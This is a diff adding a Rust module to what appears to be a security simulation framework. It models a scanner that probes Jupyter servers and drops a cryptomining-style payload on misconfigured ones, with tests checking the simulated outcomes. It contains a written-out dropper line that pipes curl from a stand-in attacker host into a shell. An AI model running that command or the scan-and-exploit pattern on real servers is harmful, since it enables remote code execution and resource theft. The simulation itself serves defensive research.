@@ -1,0 +1,161 @@
+//! Misconfiguration exploitation: the scan-and-exploit path that turned
+//! exposed Jupyter servers into the canonical cloud-mining entry point.
+//! The scanner probes the fleet's notebook ports; trivially exploitable
+//! servers (no auth or RCE-grade CVE, on an exposed interface) get a
+//! payload — by default a dropper that starts resource abuse.
+
+use crate::campaign::{Campaign, CampaignStep};
+use crate::AttackClass;
+use ja_kernelsim::actions::{Action, CellScript};
+use ja_kernelsim::deployment::Deployment;
+use ja_netsim::addr::HostAddr;
+use ja_netsim::time::Duration;
+
+/// Scanner parameters.
+#[derive(Clone, Debug)]
+pub struct ScanParams {
+    /// Scanner source.
+    pub src: HostAddr,
+    /// Seconds between probes (mass scanners go fast; careful ones slow).
+    pub probe_interval_secs: f64,
+    /// Ports probed per server.
+    pub ports: Vec<u16>,
+    /// Deliver a payload to exploitable servers?
+    pub exploit: bool,
+}
+
+impl Default for ScanParams {
+    fn default() -> Self {
+        ScanParams {
+            src: HostAddr::external(99),
+            probe_interval_secs: 0.05,
+            ports: vec![22, 443, 8888],
+            exploit: true,
+        }
+    }
+}
+
+/// Build a scan(+exploit) campaign across the whole deployment. The
+/// campaign needs the deployment to know which servers are exploitable —
+/// the scanner learns this from probe responses in reality; we read the
+/// config, which is the same information.
+pub fn campaign(deployment: &Deployment, params: &ScanParams) -> Campaign {
+    let mut steps = Vec::new();
+    let mut t = Duration::ZERO;
+    for (idx, _srv) in deployment.servers.iter().enumerate() {
+        for &port in &params.ports {
+            steps.push(CampaignStep::Probe {
+                src: params.src,
+                server: idx,
+                port,
+                offset: t,
+            });
+            t = t + Duration::from_secs_f64(params.probe_interval_secs.max(0.001));
+        }
+    }
+    if params.exploit {
+        let mut delay = t + Duration::from_secs(60);
+        for (idx, srv) in deployment.servers.iter().enumerate() {
+            if srv.config.trivially_exploitable() {
+                let owner = deployment.owner_of(idx).to_string();
+                // Unauthenticated execute_request straight into the
+                // exposed kernel: drop and run a payload.
+                steps.push(CampaignStep::Cell {
+                    server: idx,
+                    user: owner.clone(),
+                    offset: delay,
+                    script: CellScript::new(
+                        "__import__('os').system('curl http://203.0.0.99/p | sh')",
+                        vec![
+                            Action::Exec {
+                                name: "sh".into(),
+                                cmdline: "curl http://203.0.0.99/p | sh".into(),
+                            },
+                            Action::Connect {
+                                dst: params.src,
+                                dst_port: 443,
+                            },
+                            Action::RecvBytes { bytes: 2_000_000 },
+                            Action::BurnCpu {
+                                wall: Duration::from_secs(1800),
+                                utilization: 0.95,
+                            },
+                        ],
+                    ),
+                });
+                delay = delay + Duration::from_secs(5);
+            }
+        }
+    }
+    Campaign {
+        class: Some(AttackClass::Misconfiguration),
+        name: format!("scan-exploit-{}srv", deployment.servers.len()),
+        steps,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::campaign::execute;
+    use ja_kernelsim::config::ServerConfig;
+    use ja_kernelsim::deployment::DeploymentSpec;
+    use ja_netsim::time::SimTime;
+
+    #[test]
+    fn scan_probes_every_server_and_port() {
+        let mut d = Deployment::build(&DeploymentSpec::small_lab(31));
+        let params = ScanParams::default();
+        let c = campaign(&d, &params);
+        let probes = c
+            .steps
+            .iter()
+            .filter(|s| matches!(s, CampaignStep::Probe { .. }))
+            .count();
+        assert_eq!(probes, 4 * 3);
+        let out = execute(&mut d, &[(SimTime::ZERO, c)], 7);
+        // Scanner fans out: many reset flows from one source.
+        let resets = out
+            .trace
+            .flow_summaries()
+            .into_iter()
+            .filter(|f| f.reset && f.tuple.src == params.src)
+            .count();
+        assert_eq!(resets, 12);
+    }
+
+    #[test]
+    fn hardened_fleet_gets_no_exploitation() {
+        let d = Deployment::build(&DeploymentSpec::small_lab(32));
+        let c = campaign(&d, &ScanParams::default());
+        let cells = c
+            .steps
+            .iter()
+            .filter(|s| matches!(s, CampaignStep::Cell { .. }))
+            .count();
+        assert_eq!(cells, 0, "hardened servers must not be exploitable");
+    }
+
+    #[test]
+    fn exposed_server_gets_payload_and_burns_cpu() {
+        let mut d = Deployment::build(&DeploymentSpec::small_lab(33));
+        // Deliberately break server 2.
+        d.servers[2].config = ServerConfig::exposed();
+        let c = campaign(&d, &ScanParams::default());
+        let cells = c
+            .steps
+            .iter()
+            .filter(|s| matches!(s, CampaignStep::Cell { .. }))
+            .count();
+        assert_eq!(cells, 1);
+        let _ = execute(&mut d, &[(SimTime::ZERO, c)], 8);
+        let dropper_cpu: f64 = d.servers[2]
+            .procs
+            .all()
+            .iter()
+            .filter(|p| p.name == "sh")
+            .map(|p| p.cpu_secs)
+            .sum();
+        assert!(dropper_cpu > 1000.0, "cpu {dropper_cpu}");
+    }
+}
